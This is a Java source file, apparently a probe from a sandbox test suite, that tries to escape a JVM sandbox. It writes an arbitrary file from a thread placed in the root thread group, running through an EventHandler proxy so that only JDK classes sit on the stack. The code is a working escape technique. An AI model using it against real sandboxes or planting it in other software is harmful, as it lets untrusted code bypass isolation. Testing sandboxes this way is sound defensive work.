package escape.threads;

import java.beans.EventHandler;
import java.beans.Expression;
import java.io.OutputStream;
import java.lang.reflect.Proxy;
import java.nio.charset.StandardCharsets;

/**
 * Opens FILE for writing on a thread the guest starts in the JVM's own thread group (the root,
 * above every program's), whose task is an {@code EventHandler} proxy evaluating
 * {@code new FileOutputStream(FILE)}: the stack holds the JDK's classes alone, and the thread's
 * group is the JVM's, where a sandbox that asks the stack of the JVM's threads finds no one.
 *
 * <p>Source: JDK API, {@code Thread(ThreadGroup, Runnable, String)} with the root thread group
 * ({@code ThreadGroup.getParent} up from the program's), and {@code java.beans.EventHandler},
 * https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/lang/ThreadGroup.html#getParent()
 */
public final class SystemGroupThreadWrite {

    private SystemGroupThreadWrite() {
    }

    public static void main(String[] args) {
        try {
            ThreadGroup root = Thread.currentThread().getThreadGroup();
            while (root.getParent() != null) {
                root = root.getParent();
            }
            Expression open = new Expression(java.io.FileOutputStream.class, "new", new Object[] {args[0]});
            Runnable task = (Runnable) Proxy.newProxyInstance(null, new Class<?>[] {Runnable.class},
                    new EventHandler(open, "execute", null, null));
            Thread thread = new Thread(root, task, "in-the-jvms-group");
            thread.setUncaughtExceptionHandler((t, e) -> System.out.println("thread-system-group: the thread: " + e));
            thread.start();
            thread.join();
            // the stream the thread opened; opened here, on the guest's own thread, if it opened none
            try (OutputStream out = (OutputStream) open.getValue()) {
                out.write("escaped\n".getBytes(StandardCharsets.US_ASCII));
            }
            System.out.println("thread-system-group: wrote " + args[0]);
        } catch (Throwable t) {
            System.out.println("thread-system-group: " + t);
        }
    }
}
